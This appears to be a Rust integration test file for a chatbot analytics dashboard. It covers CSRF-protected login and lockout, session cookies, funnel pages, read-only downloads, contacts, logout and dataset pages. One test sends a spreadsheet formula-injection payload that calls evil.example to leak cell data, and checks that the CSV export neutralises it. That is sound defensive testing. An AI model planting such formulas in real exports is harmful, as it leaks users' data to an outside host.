//! The dashboard over HTTP: login with a CSRF-protected form and the API's lockout, a session
//! cookie that is HttpOnly and SameSite, pages showing the funnel of journeys driven through
//! the webhook, downloads readable with the session (and nothing writable with it), contacts
//! and conversations, the data pages (rows side by side with their chart and attribution), and
//! logout.

use crate::support::pages::chart_sources;
use crate::support::*;
use reqwest::StatusCode;
use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
use statbot::store::Role;

const PASSWORD: &str = "correct horse battery";

async fn with_operator(app: &TestApp) {
    let store = app.store().await;
    statbot::auth::create_user(&store, "lead", Role::Staff, PASSWORD).await.unwrap();
}

/// `name=value` of a `Set-Cookie` header of the response, with the whole header.
fn set_cookie(response: &reqwest::Response, name: &str) -> Option<(String, String)> {
    response.headers().get_all(SET_COOKIE).iter().filter_map(|v| v.to_str().ok()).find_map(|v| {
        let pair = v.split(';').next()?.trim();
        pair.starts_with(&format!("{name}=")).then(|| (pair.to_owned(), v.to_owned()))
    })
}

/// The hidden `csrf` field of a page.
fn csrf_field(page: &str) -> String {
    let start = page.find("name=\"csrf\" value=\"").expect("the page has a csrf field") + 19;
    page[start..start + 64].to_owned()
}

/// Opens the login page and posts the form; returns the answer.
async fn log_in(app: &TestApp, username: &str, password: &str) -> reqwest::Response {
    let page = app.client.get(app.url("/login")).send().await.unwrap();
    assert_eq!(page.status(), 200);
    let (cookie, header) = set_cookie(&page, "statbot_login_csrf").expect("a login csrf cookie");
    assert!(header.contains("HttpOnly") && header.contains("SameSite=Lax"), "{header}");
    let csrf = csrf_field(&page.text().await.unwrap());
    app.client
        .post(app.url("/login"))
        .header(COOKIE, cookie)
        .form(&[("username", username), ("password", password), ("csrf", &csrf)])
        .send()
        .await
        .unwrap()
}

/// Logs in and returns the session cookie (`statbot_session=…`).
async fn session(app: &TestApp) -> String {
    let response = log_in(app, "lead", PASSWORD).await;
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    assert_eq!(response.headers()[LOCATION], "/");
    let (cookie, header) = set_cookie(&response, "statbot_session").expect("a session cookie");
    assert!(header.contains("HttpOnly") && header.contains("SameSite=Lax") && header.contains("Path=/"), "{header}");
    cookie
}

async fn page(app: &TestApp, cookie: &str, path: &str) -> reqwest::Response {
    app.client.get(app.url(path)).header(COOKIE, cookie).send().await.unwrap()
}

/// The text of the table cell `data-col` in the row `data-row` of a page.
fn cell(page: &str, row: &str, col: &str) -> String {
    let at = page.find(&format!("data-row=\"{row}\"")).unwrap_or_else(|| panic!("no row {row}"));
    let from = page[at..].find(&format!("data-col=\"{col}\">")).unwrap() + at + col.len() + 12;
    page[from..from + page[from..].find('<').unwrap()].to_owned()
}

#[tokio::test]
async fn pages_need_a_session_and_wrong_passwords_are_refused_then_locked() {
    let app = TestApp::spawn().await;
    with_operator(&app).await;
    for (path, login) in [
        ("/", "/login"),
        ("/flows/coupon", "/login?next=%2Fflows%2Fcoupon"),
        ("/contacts", "/login?next=%2Fcontacts"),
        ("/contacts/1", "/login?next=%2Fcontacts%2F1"),
    ] {
        let response = app.client.get(app.url(path)).send().await.unwrap();
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "{path}");
        assert_eq!(response.headers()[LOCATION], login, "{path}");
    }
    // A forged session cookie is no session.
    let forged = page(&app, &format!("statbot_session={}", "ab".repeat(32)), "/").await;
    assert_eq!(forged.status(), StatusCode::SEE_OTHER);

    let refused = log_in(&app, "lead", "not the password").await;
    assert_eq!(refused.status(), StatusCode::UNAUTHORIZED);
    assert!(set_cookie(&refused, "statbot_session").is_none());
    assert!(refused.text().await.unwrap().contains("Wrong username or password."));

    // The form's token must match its cookie.
    let no_cookie = app
        .client
        .post(app.url("/login"))
        .form(&[("username", "lead"), ("password", PASSWORD), ("csrf", &"0".repeat(64))])
        .send()
        .await
        .unwrap();
    assert_eq!(no_cookie.status(), StatusCode::FORBIDDEN);
    assert!(set_cookie(&no_cookie, "statbot_session").is_none());

    for _ in 0..2 {
        assert_eq!(log_in(&app, "lead", "still wrong").await.status(), StatusCode::UNAUTHORIZED);
    }
    let locked = log_in(&app, "lead", PASSWORD).await;
    assert_eq!(locked.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(locked.text().await.unwrap().contains("locked"));
}

#[tokio::test]
async fn the_flow_page_shows_the_funnel_of_real_journeys_with_downloads() {
    let app = TestApp::spawn().await;
    with_operator(&app).await;
    for (psid, steps) in [("6900000000000001", 3), ("6900000000000002", 3), ("6900000000000003", 1)] {
        let journey = [("hi", false), ("coupon:show", true), ("coupon:reveal", true)];
        for (n, (what, postback)) in journey.iter().take(steps).enumerate() {
            let mid = format!("m_{psid}_{n}");
            let body = if *postback { postback_event(psid, &mid, what) } else { text_event(psid, &mid, what) };
            assert_eq!(app.post_signed(&body).await.status(), 200);
            app.wait_for_sent_to(psid, n + 1).await;
        }
    }
    let cookie = session(&app).await;

    let home = page(&app, &cookie, "/").await;
    assert_eq!(home.status(), 200);
    let home = home.text().await.unwrap();
    assert!(home.contains("Spring coupon") && home.contains("data-testid=\"cohort-coupon\">3<"), "{home}");
    assert!(!home.contains("http://") && !home.contains("https://"), "no asset from elsewhere");

    let flow = page(&app, &cookie, "/flows/coupon").await.text().await.unwrap();
    assert_eq!(cell(&flow, "welcome", "contacts"), "3");
    assert_eq!(cell(&flow, "welcome/show", "contacts"), "2");
    assert_eq!(cell(&flow, "offer", "contacts"), "2");
    assert_eq!(cell(&flow, "offer/reveal", "clicks"), "2");
    assert_eq!(cell(&flow, "revealed", "reveals"), "2");
    assert!(flow.contains("/charts/funnels/coupon.svg?from="));
    // The headline cards, against the thirty days before (when nobody came).
    assert_eq!(pages::card(&flow, "entered", "value"), "3");
    assert_eq!(pages::card(&flow, "entered", "change"), "▲ new");
    assert_eq!(pages::card(&flow, "revealing", "value"), "2");
    assert_eq!(pages::card(&flow, "conversion", "value"), "66.7%");
    assert_eq!(pages::card(&flow, "conversion", "previous"), "nothing to compare with before");
    // Each chart says what it shows, has a phone version and opens at full size when tapped.
    let alt = "alt=\"Funnel: Contacts per step. welcome 3; offer 2 (66.7% of the first step); revealed 2 (66.7%)";
    assert!(flow.contains(alt), "{flow}");
    assert!(flow.contains("<a class=\"chart\" href=\"/charts/funnels/coupon.png?from="), "{flow}");
    assert!(flow.contains("<source media=\"(max-width: 46rem)\" srcset=\"/charts/funnels/coupon.svg?from="), "{flow}");
    assert!(flow.contains("&#38;size=phone\" width=\"340\" height=\"440\">"), "{flow}");
    assert!(flow.contains("alt=\"Line chart: Coupons revealed per day of joining. Reveals and Contacts revealing"));
    assert!(home.contains("alt=\"Funnel: Contacts per step. welcome 3; offer 2"), "{home}");

    // Charts and downloads open with the session…
    let today = jiff::Timestamp::now().to_zoned(jiff::tz::TimeZone::UTC).date();
    for path in [
        format!("/charts/funnels/coupon.svg?from={today}&to={today}"),
        format!("/api/v1/funnels/coupon?from={today}&to={today}&format=csv"),
        format!("/api/v1/funnels/coupon?from={today}&to={today}&by=day"),
        "/api/v1/contacts?format=csv".to_owned(),
    ] {
        assert_eq!(page(&app, &cookie, &path).await.status(), 200, "{path}");
    }
    let json: serde_json::Value = page(&app, &cookie, "/api/v1/funnels/coupon").await.json().await.unwrap();
    assert_eq!(json["cohort"], 3);
    // …but the session writes nothing through the API.
    let write = app
        .client
        .post(app.url("/api/v1/users"))
        .header(COOKIE, &cookie)
        .json(&serde_json::json!({ "username": "x", "password": PASSWORD, "role": "admin" }))
        .send()
        .await
        .unwrap();
    assert_eq!(write.status(), StatusCode::UNAUTHORIZED);

    // A bad range is explained, and the default one shown.
    let bad = page(&app, &cookie, "/flows/coupon?from=2026-11-30&to=2026-11-01").await.text().await.unwrap();
    assert!(bad.contains("is after to"), "{bad}");
}

#[tokio::test]
async fn a_formula_typed_by_a_contact_downloads_as_text() {
    let app = TestApp::spawn().await;
    with_operator(&app).await;
    let psid = "6910000000000002";
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
    let event = text_event(psid, "m_formula", formula);
    assert_eq!(app.post_signed(&event).await.status(), 200);
    app.wait_for_sent_to(psid, 1).await;
    let cookie = session(&app).await;
    let contact = app.store().await.find_contact(statbot_core::Platform::Messenger, psid).await.unwrap().unwrap();
    let csv = page(&app, &cookie, &format!("/api/v1/contacts/{}/messages?format=csv", contact.id))
        .await
        .text()
        .await
        .unwrap();
    // OWASP's rule: a cell that a spreadsheet would read as a formula starts with a quote mark.
    let cell = r#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")""#;
    assert!(csv.contains(&format!(",in,{cell},")), "{csv}");
}

#[tokio::test]
async fn contacts_and_their_conversation_then_logout() {
    let app = TestApp::spawn().await;
    with_operator(&app).await;
    let psid = "6910000000000001";
    assert_eq!(app.post_signed(&text_event(psid, "m_1", "hi")).await.status(), 200);
    app.wait_for_sent_to(psid, 1).await;
    let cookie = session(&app).await;

    let contacts = page(&app, &cookie, "/contacts?q=ada").await.text().await.unwrap();
    assert!(contacts.contains("Ada Lovelace") && contacts.contains(psid), "{contacts}");
    let none = page(&app, &cookie, "/contacts?q=nobody%25").await.text().await.unwrap();
    assert!(none.contains("No contact matches."));
    let store = app.store().await;
    let contact = store.find_contact(statbot_core::Platform::Messenger, psid).await.unwrap().unwrap();
    let conversation = page(&app, &cookie, &format!("/contacts/{}", contact.id)).await.text().await.unwrap();
    assert!(conversation.contains("class=\"in\">hi"), "{conversation}");
    assert!(conversation.contains("Hi Ada! We have a coupon for you."), "{conversation}");
    assert!(conversation.contains("[Yes! Show me coupon]"));
    let csv = page(&app, &cookie, &format!("/api/v1/contacts/{}/messages?format=csv", contact.id))
        .await
        .text()
        .await
        .unwrap();
    assert!(csv.starts_with("at,direction,text,status") && csv.contains(",in,hi,"), "{csv}");
    assert_eq!(page(&app, &cookie, "/contacts/999999").await.status(), 404);

    // Logout needs the session's CSRF token, then ends the session for good.
    let home = page(&app, &cookie, "/").await.text().await.unwrap();
    let csrf = csrf_field(&home);
    let forged =
        app.client.post(app.url("/logout")).header(COOKIE, &cookie).form(&[("csrf", "x")]).send().await.unwrap();
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);
    let out =
        app.client.post(app.url("/logout")).header(COOKIE, &cookie).form(&[("csrf", &csrf)]).send().await.unwrap();
    assert_eq!(out.status(), StatusCode::SEE_OTHER);
    assert_eq!(out.headers()[LOCATION], "/login");
    assert!(set_cookie(&out, "statbot_session").unwrap().1.contains("Max-Age=0"));
    assert_eq!(page(&app, &cookie, "/").await.status(), StatusCode::SEE_OTHER);
    assert_eq!(page(&app, &cookie, "/api/v1/funnels/coupon").await.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn the_data_pages_show_rows_side_by_side_with_their_chart_and_attribution() {
    let app = TestApp::spawn().await;
    with_operator(&app).await;
    let anonymous = app.client.get(app.url("/datasets")).send().await.unwrap();
    assert_eq!(anonymous.status(), StatusCode::SEE_OTHER, "a login first");
    let cookie = session(&app).await;

    let list = page(&app, &cookie, "/datasets").await.text().await.unwrap();
    assert!(list.contains("href=\"/datasets/cities\"") && list.contains("simplemaps.com"), "{list}");

    // Before anything is typed: the rows, each a link, and the columns.
    let html = page(&app, &cookie, "/datasets/cities").await.text().await.unwrap();
    assert!(html.contains("<a href=\"/datasets/cities?a=Austin&#38;group=population\">Austin</a>"), "{html}");
    assert!(html.contains("id=\"columns\"") && html.contains("<td>2 bedroom rent</td>"), "{html}");

    // A name close to one row is read as that row, as the chat reads it.
    let html = page(&app, &cookie, "/datasets/cities?a=Austin&b=denvr&group=housing").await.text().await.unwrap();
    assert!(html.contains("“denvr” is read as Denver."), "{html}");
    assert!(html.contains("<th>Austin</th><th>Denver</th>"), "{html}");
    let html = page(&app, &cookie, "/datasets/cities?a=Austin&b=Denver&group=housing").await.text().await.unwrap();
    assert!(html.contains("<th>Austin</th><th>Denver</th>"), "{html}");
    assert!(html.contains("<td>$1,356 a month</td><td>$1,566 a month</td>"), "{html}");
    assert!(html.contains("id=\"attribution\""), "{html}");
    let src = chart_sources(&html).remove(0);
    assert!(src.starts_with("/charts/datasets/cities.svg?rows=Austin%7CDenver&metric=fmr_2br_usd"), "{src}");
    assert!(
        html.contains("alt=\"Bar chart: Austin vs Denver: housing"),
        "the alt text says what the chart shows: {html}"
    );
    let chart = page(&app, &cookie, &src).await;
    assert_eq!(chart.status(), 200);
    assert!(chart.text().await.unwrap().starts_with("<svg"));
    let png = page(&app, &cookie, &src.replace(".svg?", ".png?")).await;
    assert!(png.bytes().await.unwrap().starts_with(b"\x89PNG"));

    // The page opens on a group worth a chart, not on latitude and longitude; asked for the
    // coordinates, it shows them in the table but draws no chart of them.
    let html = page(&app, &cookie, "/datasets/cities?a=Austin").await.text().await.unwrap();
    assert!(html.contains("<option value=\"population\" selected>"), "{html}");
    let src = chart_sources(&html).remove(0);
    assert!(src.contains("&metric=population") || src.contains("&metric=urban_area_population"), "{src}");
    let html = page(&app, &cookie, "/datasets/cities?a=Austin&group=geography").await.text().await.unwrap();
    assert!(html.contains("<td>30.3°</td>") || html.contains("latitude"), "the coordinates in the table: {html}");
    assert!(chart_sources(&html).is_empty(), "no chart of coordinates: {html}");

    let html = page(&app, &cookie, "/datasets/cities?a=Portland").await.text().await.unwrap();
    assert!(html.contains("“Portland” could be Portland, OR or Portland, ME: say which."), "{html}");
    assert!(
        html.contains("<a href=\"/datasets/cities?a=Portland%2C+OR&#38;group=population\">Portland, OR</a>"),
        "the rows it could be, as links: {html}"
    );
    let missing = page(&app, &cookie, "/datasets/nope").await;
    assert_eq!(missing.status(), 404);
}
